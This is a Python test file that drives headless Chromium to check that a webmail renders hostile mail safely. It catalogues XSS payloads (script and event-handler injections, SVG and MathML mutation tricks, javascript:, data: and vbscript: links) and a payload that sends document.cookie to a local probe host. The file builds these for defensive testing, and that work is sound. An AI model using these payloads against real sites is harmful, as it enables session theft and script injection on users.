"""The webmail in a real browser: Debian's chromium, headless, driven by selenium through
chromedriver. What a user would notice, and above all that hostile mail can neither run script
nor make the browser reach the sender's server:

- the user path: logging in through the form (typing, clicking), a message that came in by SMTP
  in the list, opening it, its text; the page title counts the unread message before and not
  after; the message page's Flag button changes what IMAP sees;
- hostile HTML, one message per payload (`<script>`, event handlers, SVG and MathML tricks,
  parser mutations, `javascript:` links in several spellings, `data:` and `vbscript:` links,
  meta refresh, forms, frames, plugins, `<a ping>`, `<base>`): opened in the browser (links and
  buttons inside the message frame clicked), nothing ran and nothing reached the "remote" host;
  a few of them also opened directly, as a top-level page, from the frame's own URL;
- remote content, one message per way of loading it (background attributes, CSS `url()`,
  `@import`, `@font-face`, `var()`, `<link>` of every kind, `srcset`, SVG images and filters,
  media, image inputs): the remote host saw nothing, not even a connection;
- markup in a subject, a sender's name (an RFC 2047 encoded word), attachment file names, a
  plain-text body (with the linkifier's hard cases) and a search term in a link: shown
  literally on the list and the message page, no element made from it, every link http(s) or
  ours, hovering the links runs nothing;
- attachments that are active content (HTML inline, SVG and XHTML with script): clicked or
  opened by URL, they download; nothing runs;
- cross-site requests: a page of another site, one of the same host on another port, and that
  one again posting with `Origin: null`, submit the flag form, the delete action, the logout
  form and the login form (with a `buzon_login` cookie it set itself): nothing changes, the
  session lives on, the browser is not logged into the attacker's account;
- logout: the old session cookie put back into the browser does not get in again;
- another user's message URLs are 404 pages with nothing of the message.

"Remote" is a probe HTTP server started here on 127.0.0.1, recording every accepted connection
and every request (idle connections are closed after half a second, so that each message's
preconnects are seen anew). A payload's script, if it ever ran, would post a message to the
main page, mark the frame's document (`data-pwned`), try to set the main page's title and
`window.PWNED`, fetch from the probe, and navigate the main page and the frame to it; the tests
look for each of these. A control test runs the same script in an ordinary frame from another
origin and shows the checks catch it (whole, it moves the main page; without its navigations,
its posted message, its mark and its fetch are seen).

Except in the user path (whose point is the form), the browser is logged in by handing it the
session cookie of a login over HTTP. One stack and one browser serve the module (cookies
cleared between tests); the user path has a stack of its own, for exact unread counts.

Run: BUZON_BIN=.build/debug python3 -m pytest -q Tests/EndToEnd/test_webmail_browser.py
"""

from __future__ import annotations

import base64
import email.utils
import http.server
import imaplib
import os
import re
import shutil
import threading
import time
from urllib.parse import quote

import pytest
import requests

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
if not os.path.exists(CHROMIUM):
    pytest.skip(f"no browser at {CHROMIUM}", allow_module_level=True)

from selenium import webdriver  # noqa: E402
from selenium.common.exceptions import NoAlertPresentException, WebDriverException  # noqa: E402
from selenium.webdriver.chrome.service import Service  # noqa: E402
from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

from conftest import webmail_stack  # noqa: E402
from imap_support import ALICE, BOB, PASSWORD, deliver, message  # noqa: E402

SETTLE = 0.5  # seconds a page gets for whatever it would do after loading
MIME = "MIME-Version: 1.0\r\n"
SUFFIX = " — Buzón"

# --- the "remote" host ----------------------------------------------------------------------------


class Probe:
    """An HTTP server on 127.0.0.1 that records every connection and request (`events`) and
    answers every request with a small page, or with the page `serve()` set for its path
    (the attacking pages of the CSRF tests)."""

    def __init__(self):
        self.events: list[tuple] = []
        self.pages: dict[str, tuple[str, list[tuple[str, str]]]] = {}
        self.lock = threading.Lock()
        probe = self

        class Handler(http.server.BaseHTTPRequestHandler):
            timeout = 0.5  # a preconnected socket that sends nothing is closed soon

            def handle_request(self):
                with probe.lock:
                    probe.events.append((self.command, self.path))
                page, headers = probe.pages.get(self.path.split("?")[0], ("<p>probe</p>", []))
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                for name, value in headers:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_PUT = do_OPTIONS = handle_request

            def log_message(self, *args):
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def get_request(self):
                connection = super().get_request()
                with probe.lock:
                    probe.events.append(("connection", connection[1][1]))
                return connection

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}"

    def serve(self, path: str, page: str, headers: list[tuple[str, str]] | None = None) -> None:
        self.pages[path] = (page, headers or [])

    def reset(self) -> None:
        with self.lock:
            self.events.clear()
        self.pages.clear()

    def seen(self) -> list[tuple]:
        """Everything that reached the probe so far: ("connection", port) and (method, path)."""
        with self.lock:
            return list(self.events)

    def requests(self) -> list[tuple]:
        return [e for e in self.seen() if e[0] != "connection"]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# --- the browser ----------------------------------------------------------------------------------

# Put into every document before its own content: records what other frames post to it.
LISTENER = ("window.__posted = [];"
            "window.addEventListener('message', function (e) { window.__posted.push(String(e.data)); });")


@pytest.fixture(scope="module")
def probe():
    p = Probe()
    yield p
    p.stop()


@pytest.fixture(scope="module")
def downloads(tmp_path_factory):
    return tmp_path_factory.mktemp("downloads")


@pytest.fixture(scope="module")
def browser(downloads):
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    options.unhandled_prompt_behavior = "ignore"  # an alert stays open for the test to see
    options.add_experimental_option("prefs", {"download.default_directory": str(downloads),
                                              "download.prompt_for_download": False})
    driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
    driver.set_page_load_timeout(20)
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": LISTENER})
    driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)})
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    """One store + smtp-gateway + imap-gateway + webmail for the module's tests (each uses its
    own messages); the user path takes a fresh one (`webmail_system`) for exact counts."""
    yield from webmail_stack(tmp_path_factory.mktemp("stack"))


@pytest.fixture(autouse=True)
def fresh(browser, probe, downloads):
    """Every test starts with no cookies, a blank page, an empty probe and no downloads."""
    browser.get("about:blank")
    browser.execute_cdp_cmd("Network.clearBrowserCookies", {})
    probe.reset()
    for entry in downloads.iterdir():
        if entry.is_dir():
            shutil.rmtree(entry, ignore_errors=True)
        else:
            entry.unlink(missing_ok=True)
    yield


# --- helpers --------------------------------------------------------------------------------------


def http_session(webmail, user: str = ALICE) -> str:
    """A session id from a login over HTTP (the login form's token and cookie, then the post)."""
    client = requests.Session()
    r = client.get(webmail.url + "/login", timeout=10)
    token = re.search(r'name="csrf" value="([^"]+)"', r.text)
    assert r.status_code == 200 and token, r.text[:500]
    r = client.post(webmail.url + "/login", data={"username": user, "password": PASSWORD, "csrf": token.group(1)},
                    allow_redirects=False, timeout=10)
    assert r.status_code == 303 and client.cookies.get("buzon_session"), (r.status_code, r.text[:300])
    return client.cookies["buzon_session"]


def log_in(driver, webmail, user: str = ALICE) -> str:
    """Logs the browser in with the cookie of an HTTP login; returns the session id."""
    session = http_session(webmail, user)
    driver.get(webmail.url + "/login")  # a page of the webmail's host, to set its cookie on
    driver.add_cookie({"name": "buzon_session", "value": session, "path": "/", "httpOnly": True, "sameSite": "Strict"})
    return session


def inbox_id(store, account: str = ALICE) -> int:
    return store.inbox(account)["id"]


def store_deliver(store, raw: bytes, account: str = ALICE) -> int:
    r = store.deliver(raw, [account])
    assert r.status_code == 200, r.text
    [recipient] = r.json()["recipients"]
    return recipient["deliveries"][0]["uid"]


def html_message(subject: str, html: str) -> bytes:
    """A message whose only body is `html` (base64, so that no byte of a payload is mangled)."""
    body = base64.encodebytes(html.encode()).decode().replace("\n", "\r\n")
    return message(subject, body, extra=MIME + "Content-Type: text/html; charset=utf-8\r\n"
                   "Content-Transfer-Encoding: base64\r\n")


def attachment(content_type: str, filename: str, data: bytes, disposition: str = "attachment") -> str:
    return (f"Content-Type: {content_type}; name=\"{filename}\"\r\n"
            f"Content-Disposition: {disposition}; filename=\"{filename}\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).decode().replace("\n", "\r\n"))


def encoded_word(text: str) -> str:
    return "=?UTF-8?B?" + base64.b64encode(text.encode()).decode() + "?="


def path_of(driver) -> str:
    return re.sub(r"^https?://[^/]+", "", driver.current_url)


def response_status(driver) -> int:
    """The HTTP status of the page the browser shows (Navigation Timing's responseStatus)."""
    return driver.execute_script("return performance.getEntriesByType('navigation')[0].responseStatus")


def imap_flags(imap, uid: int, account: str = ALICE) -> str:
    client = imaplib.IMAP4("127.0.0.1", imap.port, timeout=10)
    try:
        assert client.login(account, PASSWORD)[0] == "OK"
        assert client.select("INBOX", readonly=True)[0] == "OK"
        typ, data = client.uid("FETCH", str(uid), "(FLAGS)")
        assert typ == "OK", data
        return data[0].decode().lower()
    finally:
        client.logout()


def alert_text(driver) -> str | None:
    try:
        return driver.switch_to.alert.text
    except NoAlertPresentException:
        return None


def in_frame(driver, action):
    """`action()` run inside the message frame (None when the page has none)."""
    frames = driver.find_elements(By.CSS_SELECTOR, "iframe.html-body")
    if not frames:
        return None
    driver.switch_to.frame(frames[0])
    try:
        return action()
    finally:
        driver.switch_to.default_content()


def unread_prefix(title: str) -> str:
    """A title without its `(3) ` unread count (the page's script keeps that up to date)."""
    return re.sub(r"^\(\d+\) ", "", title)


def what_ran(driver, probe, url: str, title: str) -> list[str]:
    """Every sign that a payload ran or fetched something: the main page moved or retitled,
    `window.PWNED` set, a message posted to it, an alert, the frame's document marked, anything
    at the probe."""
    problems = []
    if (alert := alert_text(driver)) is not None:
        problems.append(f"an alert is open: {alert!r}")
        driver.switch_to.alert.dismiss()
    if driver.current_url != url:
        problems.append(f"the page moved to {driver.current_url}")
    if unread_prefix(driver.title) != unread_prefix(title):
        problems.append(f"the title is {driver.title!r}")
    pwned, posted = driver.execute_script("return [window.PWNED, window.__posted]")
    if pwned is not None:
        problems.append(f"window.PWNED = {pwned!r}")
    if posted:
        problems.append(f"the main page got messages {posted}")
    try:
        marked = in_frame(driver, lambda: [e.get_attribute("data-pwned")
                                           for e in driver.find_elements(By.CSS_SELECTOR, "[data-pwned]")])
    except WebDriverException:
        marked = None  # the frame navigated away (to a blocked page): the probe tells where
    if marked:
        problems.append(f"the frame's document was marked by {marked}")
    if seen := probe.seen():
        problems.append(f"the remote host saw {seen}")
    return problems


# --- 1. the user path -----------------------------------------------------------------------------


def test_log_in_with_the_form_read_a_message_and_the_title_counts_unread(browser, webmail_system):
    store, smtp, imap, webmail = webmail_system
    uid, _ = deliver(smtp, message("Lunch on Friday?", "Hi Alice,\r\nshall we meet at noon? https://example.com/menu\r\n",
                                   sender="=?UTF-8?Q?Jos=C3=A9_P=C3=A9rez?= <jose@remote.test>"))
    inbox = inbox_id(store)

    browser.get(webmail.url + "/mail")
    assert path_of(browser) == "/login", browser.current_url
    assert browser.title == "Log in" + SUFFIX
    assert browser.get_cookie("buzon_login"), browser.get_cookies()
    browser.find_element(By.ID, "username").send_keys(ALICE)
    browser.find_element(By.ID, "password").send_keys(PASSWORD)
    browser.find_element(By.CSS_SELECTOR, "main.login button[type=submit]").click()
    WebDriverWait(browser, 10).until(lambda d: path_of(d) != "/login" or d.title != "Log in" + SUFFIX)
    assert path_of(browser) == f"/mail/{inbox}", (
        f"the browser's own login form did not log in: {browser.current_url}, {browser.title!r}, "
        f"{browser.find_element(By.TAG_NAME, 'main').text!r}")
    assert browser.get_cookie("buzon_session")

    assert browser.title == "(1) INBOX" + SUFFIX
    row = browser.find_element(By.CSS_SELECTOR, "table.messages tbody tr")
    assert "unread" in row.get_attribute("class").split()
    assert row.find_element(By.CSS_SELECTOR, "td.from").text == "José Pérez"
    link = row.find_element(By.LINK_TEXT, "Lunch on Friday?")
    assert link.get_dom_attribute("href") == f"/mail/{inbox}/{uid}"
    link.click()

    WebDriverWait(browser, 10).until(lambda d: path_of(d) == f"/mail/{inbox}/{uid}")
    assert browser.title == "Lunch on Friday?" + SUFFIX
    assert browser.find_element(By.TAG_NAME, "h1").text == "Lunch on Friday?"
    body = browser.find_element(By.CSS_SELECTOR, "pre.body")
    assert body.text == "Hi Alice,\nshall we meet at noon? https://example.com/menu", body.text
    [url] = body.find_elements(By.TAG_NAME, "a")
    assert url.get_dom_attribute("href") == "https://example.com/menu" and url.text == "https://example.com/menu"
    assert "\\seen" in imap_flags(imap, uid)

    browser.find_element(By.CSS_SELECTOR, "p.back a").click()
    WebDriverWait(browser, 10).until(lambda d: path_of(d) == f"/mail/{inbox}")
    assert browser.title == "INBOX" + SUFFIX
    row = browser.find_element(By.CSS_SELECTOR, "table.messages tbody tr")
    assert "unread" not in (row.get_attribute("class") or "").split()


def test_the_flag_button_flags_the_message(browser, stack):
    store, smtp, imap, webmail = stack
    uid = store_deliver(store, message("Flag me in the browser"))
    inbox = inbox_id(store)
    log_in(browser, webmail)
    browser.get(webmail.url + f"/mail/{inbox}/{uid}")
    browser.find_element(By.CSS_SELECTOR, "form.actions button[value=flag]").click()
    WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.CSS_SELECTOR, "h1"))
    assert browser.find_element(By.TAG_NAME, "h1").text == "Flag me in the browser", (
        f"the message page's own Flag button was refused: {browser.current_url}, {browser.title!r}, "
        f"{browser.find_element(By.TAG_NAME, 'main').text!r}")
    assert "\\flagged" in imap_flags(imap, uid)
    assert browser.find_elements(By.CSS_SELECTOR, "form.actions button[value=unflag]")


# --- 2. hostile HTML ------------------------------------------------------------------------------


def script(name: str, navigate: bool = True) -> str:
    """What a payload runs: no spaces, double quotes or `>`, so that it fits unquoted attribute
    values. Each step is observable from outside the frame. `{P}`: the probe's URL for it."""
    steps = ["parent.postMessage('PWNED-%s','*')" % name,
             "document.documentElement.setAttribute('data-pwned','%s')" % name,
             "try{top.PWNED=1}catch(e){}",
             "try{top.document.title='PWNED'}catch(e){}",
             "try{fetch('{P}/fetch')}catch(e){}",
             "try{new(Image)().src='{P}/cookie?'+document.cookie}catch(e){}"]
    if navigate:
        steps += ["try{parent.location='{P}/parent'}catch(e){}", "location='{P}/navigate'"]
    return ";".join(steps)


# name: (HTML after a visible marker, what to click in the frame or None)
SCRIPTED = {
    "script": ("<script>{S}</script>", None),
    "img-onerror": ('<img src=x onerror="{S}">', None),
    "svg-onload": ('<svg onload="{S}"><rect width=10 height=10 /></svg>', None),
    "svg-animate-href": ('<svg width=200 height=40><a><animate attributeName=href to="javascript:{S}" begin=0s dur=1ms '
                         'fill=freeze /><text x=10 y=30>click me</text></a></svg>', "svg text"),
    "svg-set-href": ('<svg width=200 height=40><a><set attributeName=href to="javascript:{S}" begin=0s />'
                     '<text x=10 y=30>click me</text></a></svg>', "svg text"),
    "svg-use-data": ('<svg><use href="data:image/svg+xml,{USE}#x" /></svg>', None),
    "mathml-mglyph-style": ("<math><mtext><table><mglyph><style><img src=x onerror={S}>", None),
    "noscript-title": ('<noscript><p title="</noscript><img src=x onerror={S}>">', None),
    "style-in-style": ("<style><style/><img src=x onerror={S}>", None),
    "cdata": ("<![CDATA[><img src=x onerror={S}>]]>", None),
    "details-ontoggle": ('<details open ontoggle="{S}"><summary>more</summary>x</details>', None),
    "autofocus-onfocus": ('<input autofocus onfocus="{S}">', None),
    "iframe-srcdoc": ('<iframe srcdoc="<script>{S}</script>"></iframe>', None),
    "javascript-link": ('<a id=c href="javascript:{S}">click me</a>', "#c"),
    "javascript-tab-link": ('<a id=c href="jav&#x09;ascript:{S}">click me</a>', "#c"),
    "javascript-entity-link": ('<a id=c href="&#106;avascript:{S}">click me</a>', "#c"),
    "data-html-link": ('<a id=c href="data:text/html,{DATA}">click me</a>', "#c"),
    "vbscript-link": ('<a id=c href="vbscript:msgbox(1)">click me</a>', "#c"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url={P}/meta">', None),
    "form-autosubmit": ("<form id=f method=post action=\"{P}/form\"><input name=a value=b><button id=c>Send</button></form>"
                        "<script>document.getElementById('f').submit()</script>", "#c"),
    "iframe-remote": ('<iframe src="{P}/frame"></iframe>', None),
    "object": ('<object data="{P}/object" type="text/html"></object>', None),
    "embed": ('<embed src="{P}/embed" type="image/svg+xml">', None),
    "a-ping": ('<a id=c href="#here" ping="{P}/ping">click me</a>', "#c"),
    "base-href": ('<base href="{P}/"><img src="a.png"><link rel=stylesheet href="b.css">', None),
}

# name: HTML after a visible marker
REMOTE = {
    "img-src": '<img src="{P}/pixel.gif">',
    "img-protocol-relative": '<img src="{PR}/pixel.gif">',
    "body-background": '<body background="{P}/bg"><p>x</p>',
    "table-background": '<table background="{P}/table-bg"><tr><td>x</td></tr></table>',
    "style-attribute-url": '<div style="background-image:url({P}/style-attr);width:20px;height:20px">x</div>',
    "style-element-url": "<style>p.u{background:url({P}/style-el)}</style><p class=u>x</p>",
    "css-import": "<style>@import url({P}/import.css);</style><p>x</p>",
    "css-var-url": '<div style="--u:url({P}/var);background-image:var(--u);width:20px;height:20px">x</div>',
    "css-font-face": "<style>@font-face{font-family:probe;src:url({P}/font.woff)}p{font-family:probe}</style><p>x</p>",
    "css-cursor": '<div style="cursor:url({P}/cursor),auto">x</div>',
    "css-list-style-image": '<ul style="list-style-image:url({P}/list)"><li>x</li></ul>',
    "link-stylesheet": '<link rel=stylesheet href="{P}/l.css"><p>x</p>',
    "link-prefetch": '<link rel=prefetch href="{P}/prefetch">',
    "link-preload": '<link rel=preload as=image href="{P}/preload">',
    "link-preconnect": '<link rel=preconnect href="{P}/">',
    "img-srcset": '<img srcset="{P}/srcset.png 1x, {P}/srcset2.png 2x">',
    "picture-source": '<picture><source srcset="{P}/source.png"><img src="{P}/picture.png"></picture>',
    "svg-feimage": ('<svg width=20 height=20><filter id=f><feImage href="{P}/fe" /></filter>'
                    '<rect width=20 height=20 filter="url(#f)" /></svg>'),
    "svg-image": '<svg width=20 height=20><image href="{P}/svg-image" width=20 height=20 /></svg>',
    "video-poster": '<video poster="{P}/poster" width=20 height=20></video>',
    "video-source": '<video autoplay muted><source src="{P}/video"></video>',
    "audio-src": '<audio src="{P}/audio" autoplay controls></audio>',
    "input-image": '<input type=image src="{P}/input">',
}


def payload(template: str, name: str, probe: Probe) -> str:
    base = f"{probe.url()}/{name}"
    run = script(name).replace("{P}", base)
    use = quote(f'<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="{run}"/></svg>', safe="")
    return (template.replace("{S}", run).replace("{USE}", use).replace("{DATA}", quote(f"<script>{run}</script>", safe=""))
            .replace("{PR}", base[len("http:"):]).replace("{P}", base))


def hostile_document(name: str, body: str) -> str:
    return ('<!doctype html><html><head><meta charset="utf-8"></head>'
            f'<body><p id="shown">Hostile {name}</p>{body}</body></html>')


def open_hostile(driver, probe, store, webmail, name: str, body: str, click: str | None) -> list[str]:
    """Delivers the hostile message, opens it, clicks `click` in its frame: what ran."""
    subject = f"Hostile {name}"
    uid = store_deliver(store, html_message(subject, hostile_document(name, body)))
    inbox = inbox_id(store)
    url = f"{webmail.url}/mail/{inbox}/{uid}"
    driver.get(url)
    frame = driver.find_element(By.CSS_SELECTOR, "iframe.html-body")
    assert frame.get_dom_attribute("sandbox") == "" and frame.get_dom_attribute("src") == f"/mail/{inbox}/{uid}/html"
    # The frame shows the message (else the test would prove nothing).
    assert in_frame(driver, lambda: driver.find_element(By.ID, "shown").text) == subject
    time.sleep(SETTLE)
    problems = what_ran(driver, probe, url, subject + SUFFIX)
    if click:
        def press():
            target = driver.find_element(By.CSS_SELECTOR, click)
            try:
                target.click()
            except WebDriverException:
                ActionChains(driver).move_to_element(target).click().perform()
        in_frame(driver, press)
        time.sleep(SETTLE)
        problems += [f"after clicking {click}: {p}" for p in what_ran(driver, probe, url, subject + SUFFIX)]
    return problems


@pytest.mark.parametrize("quiet", [False, True], ids=["navigating", "staying"])
def test_control_the_checks_see_a_script_that_runs(browser, probe, quiet):
    """Outside the webmail's sandbox (an ordinary frame from another origin, as the message
    frame is) the payload's script is caught by the checks: else the tests below prove nothing.
    The whole script moves the main page; without its two navigations it stays, and the message
    it posts, the mark on the frame's document and its fetch are seen."""
    name = "control"
    frame = probe.url("localhost") + "/control/frame.html"
    probe.serve("/control/top.html", f'<title>Control</title><iframe class="html-body" src="{frame}"></iframe>')
    run = script(name, navigate=not quiet).replace("{P}", f"{probe.url()}/{name}")
    probe.serve("/control/frame.html", hostile_document(name, f'<img src=x onerror="{run}">'))
    url = probe.url() + "/control/top.html"
    browser.get(url)
    WebDriverWait(browser, 5).until(lambda d: ("GET", "/control/fetch") in probe.requests())
    time.sleep(SETTLE)
    problems = what_ran(browser, probe, url, "Control")
    assert any(p.startswith("the remote host saw") for p in problems), problems
    if quiet:
        assert f"the main page got messages ['PWNED-{name}']" in problems, problems
        assert f"the frame's document was marked by ['{name}']" in problems, problems
    else:
        assert any(p.startswith("the page moved to") for p in problems), problems


@pytest.mark.parametrize("name", sorted(SCRIPTED))
def test_hostile_html_runs_no_script_and_loads_nothing(browser, probe, stack, name):
    store, smtp, imap, webmail = stack
    log_in(browser, webmail)
    template, click = SCRIPTED[name]
    problems = open_hostile(browser, probe, store, webmail, name, payload(template, name, probe), click)
    assert not problems, problems


@pytest.mark.parametrize("name", sorted(REMOTE))
def test_remote_content_in_html_mail_is_not_fetched(browser, probe, stack, name):
    store, smtp, imap, webmail = stack
    log_in(browser, webmail)
    problems = open_hostile(browser, probe, store, webmail, name, payload(REMOTE[name], name, probe), None)
    assert not problems, problems


@pytest.mark.parametrize("name", ["script", "img-onerror", "svg-onload", "meta-refresh", "form-autosubmit", "iframe-remote"])
def test_the_html_url_opened_on_its_own_runs_nothing(browser, probe, stack, name):
    """The frame's URL loaded as the page itself (a user opening the frame in a tab): its
    policy still sandboxes it."""
    store, smtp, imap, webmail = stack
    log_in(browser, webmail)
    template, _ = SCRIPTED[name]
    uid = store_deliver(store, html_message(f"Top {name}", hostile_document(name, payload(template, name, probe))))
    url = f"{webmail.url}/mail/{inbox_id(store)}/{uid}/html"
    browser.get(url)
    assert browser.find_element(By.ID, "shown").text == f"Hostile {name}"
    time.sleep(SETTLE)
    title = browser.title  # the message's document has no <title>: whatever Chrome shows for it
    time.sleep(SETTLE)
    problems = what_ran(browser, probe, url, title)
    assert title != "PWNED" and not browser.find_elements(By.CSS_SELECTOR, "[data-pwned]")
    assert not problems, problems


# --- markup in headers, names and text --------------------------------------------------------------

SUBJECT = "<img src=x onerror=alert(1)><script>alert(2)</script> & <b>bold</b>"
NAME = "<img src=x onerror=alert(3)> \"Mallory\" <svg onload=alert(4)>"
FILENAMES = ["'><svg onload=alert(5)>.html", "\"><img src=x onerror=alert(6)>.txt"]
TEXT_LINES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2) data:text/html,<script>alert(3)</script> vbscript:msgbox(4)",
    'http://x"onmouseover="alert(5)',
    "http://y/'onmouseover='alert(6)'",
    "https://example.com/<script>alert(7)</script>",
    "<a href=\"javascript:alert(8)\">click</a> <img src=x onerror=alert(9)>",
]
# What the linkifier may make of that: http(s) URLs ended by the first character a URL cannot
# hold, without the punctuation that closes a sentence (`'` and `)` too: safe, `'` is escaped).
TEXT_LINKS = ["http://x", "http://y/'onmouseover='alert(6", "https://example.com/"]
ACTIVE = ('img, svg, script:not([src="/static/app.js"]), iframe, object, embed, math, '
          "[onerror], [onload], [onmouseover], [onfocus]")


def assert_no_markup_came_alive(driver) -> None:
    assert driver.find_elements(By.CSS_SELECTOR, ACTIVE) == [], [e.get_attribute("outerHTML")[:200]
                                                                 for e in driver.find_elements(By.CSS_SELECTOR, ACTIVE)]
    for link in driver.find_elements(By.TAG_NAME, "a"):
        href = link.get_dom_attribute("href") or ""
        assert re.match(r"^(https?://|/(?!/))", href), f"a link to {href!r}"
    assert alert_text(driver) is None
    assert driver.execute_script("return [window.PWNED, window.__posted]") == [None, []]


def test_markup_in_subject_sender_file_names_and_text_shows_as_text(browser, probe, stack):
    store, smtp, imap, webmail = stack
    fields = (f"From: {encoded_word(NAME)} <mallory@remote.test>\r\nTo: {ALICE}\r\nSubject: {SUBJECT}\r\n"
              f"Message-ID: <markup.{time.monotonic_ns()}@remote.test>\r\n"
              f"Date: {email.utils.formatdate()}\r\n")  # the newest: on the list's first page
    raw = (fields + MIME + 'Content-Type: multipart/mixed; boundary="m"\r\n\r\n'
           "--m\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + "\r\n".join(TEXT_LINES) + "\r\n"
           f"--m\r\n{attachment('text/plain', FILENAMES[0], b'one')}"
           f"--m\r\nContent-Type: text/plain; name=\"{encoded_word(FILENAMES[1])}\"\r\n"
           f"Content-Disposition: attachment; filename=\"{encoded_word(FILENAMES[1])}\"\r\n\r\ntwo\r\n"
           "--m--\r\n").encode()
    uid = store_deliver(store, raw)
    inbox = inbox_id(store)
    log_in(browser, webmail)

    browser.get(f"{webmail.url}/mail/{inbox}")
    link = next(a for a in browser.find_elements(By.CSS_SELECTOR, "table.messages td.subject a")
                if a.get_dom_attribute("href") == f"/mail/{inbox}/{uid}")
    assert link.text == SUBJECT
    row = link.find_element(By.XPATH, "./ancestor::tr")
    assert row.find_element(By.CSS_SELECTOR, "td.from").text == NAME
    assert_no_markup_came_alive(browser)

    link.click()
    WebDriverWait(browser, 10).until(lambda d: path_of(d) == f"/mail/{inbox}/{uid}")
    assert unread_prefix(browser.title) == SUBJECT + SUFFIX
    assert browser.find_element(By.TAG_NAME, "h1").text == SUBJECT
    assert browser.find_element(By.CSS_SELECTOR, "dl.headers dd").text == f"{NAME} <mallory@remote.test>"
    names = [a.text for a in browser.find_elements(By.CSS_SELECTOR, "ul.attachments a")]
    assert names == FILENAMES, names
    body = browser.find_element(By.CSS_SELECTOR, "pre.body")
    assert body.text.split("\n") == TEXT_LINES, body.text
    links = body.find_elements(By.TAG_NAME, "a")
    assert [a.get_dom_attribute("href") for a in links] == TEXT_LINKS, [a.get_attribute("outerHTML") for a in links]
    assert [a.text for a in links] == TEXT_LINKS
    for a in links:  # an onmouseover smuggled into the link would fire now
        ActionChains(browser).move_to_element(a).perform()
    time.sleep(SETTLE)
    assert_no_markup_came_alive(browser)
    assert probe.seen() == []


def test_search_terms_from_a_link_show_as_text(browser, probe, stack):
    """A link into the webmail whose search carries markup (a reflected attack): the search box
    and the "found for" line show it as typed."""
    store, smtp, imap, webmail = stack
    inbox = inbox_id(store)
    log_in(browser, webmail)
    term = f'"><img src=x onerror=alert(1)><script>alert(2)</script>\' <a href="javascript:alert(3)">x</a>'
    browser.get(f"{webmail.url}/mail/{inbox}?q={quote(term, safe='')}")
    assert browser.find_element(By.CSS_SELECTOR, 'input[name="q"]').get_attribute("value") == term
    assert term in browser.find_element(By.CSS_SELECTOR, "p.count").text
    time.sleep(SETTLE)
    assert_no_markup_came_alive(browser)
    assert probe.seen() == []


# --- attachments that are active content ---------------------------------------------------------------


def test_active_attachments_download_and_run_nothing(browser, probe, stack, downloads):
    store, smtp, imap, webmail = stack
    run = script("attachment").replace("{P}", probe.url() + "/attachment")
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>'
           f'<image href="{probe.url()}/attachment/svg-image"/></svg>').encode()
    page = (f'<html><body onload="{run}"><script>{run}</script>'
            f'<img src="{probe.url()}/attachment/img"></body></html>').encode()
    raw = message("Active attachments", (
        "--o\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the attachments.\r\n"
        f"--o\r\n{attachment('image/svg+xml', 'pic.svg', svg)}"
        f"--o\r\n{attachment('text/html', 'page.html', page, disposition='inline')}"
        f"--o\r\n{attachment('application/xhtml+xml', 'page.xhtml', page)}"
        "--o--\r\n"), extra=MIME + 'Content-Type: multipart/mixed; boundary="o"\r\n')
    uid = store_deliver(store, raw)
    inbox = inbox_id(store)
    log_in(browser, webmail)
    url = f"{webmail.url}/mail/{inbox}/{uid}"
    browser.get(url)
    assert not browser.find_elements(By.CSS_SELECTOR, "iframe"), "an HTML attachment was taken for the body"
    links = {a.text: a.get_dom_attribute("href") for a in browser.find_elements(By.CSS_SELECTOR, "ul.attachments a")}
    assert set(links) == {"pic.svg", "page.html", "page.xhtml"}, links
    windows = browser.window_handles

    for name in sorted(links):  # clicked, as a user would
        browser.find_element(By.LINK_TEXT, name).click()
        time.sleep(SETTLE)
        assert browser.window_handles == windows
        problems = what_ran(browser, probe, url, "Active attachments" + SUFFIX)
        assert not problems, (name, problems)
    for name, href in sorted(links.items()):  # and opened by their URL
        browser.get(webmail.url + href)
        time.sleep(SETTLE)
        assert browser.current_url in (url, webmail.url + href), browser.current_url
        if browser.current_url != url:  # shown, not downloaded: then as inert text at most
            assert not browser.find_elements(By.CSS_SELECTOR, "svg, img, script, body[onload]"), name
        assert browser.execute_script("return [window.PWNED, window.__posted]") == [None, []], name
        assert alert_text(browser) is None and probe.seen() == [], (name, probe.seen())
        browser.get(url)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not {"pic.svg", "page.html"} <= set(os.listdir(downloads)):
        time.sleep(0.1)
    assert {"pic.svg", "page.html"} <= set(os.listdir(downloads)), os.listdir(downloads)
    assert (downloads / "pic.svg").read_bytes() == svg


# --- cross-site requests ---------------------------------------------------------------------------------

# Where the attacking page comes from: another site (localhost is not 127.0.0.1), the same host
# on another port (same site, another origin; its cookies are the webmail's too), and that page
# again with `Referrer-Policy: no-referrer`, so that its posts say `Origin: null`, as the
# webmail's own pages' posts do.
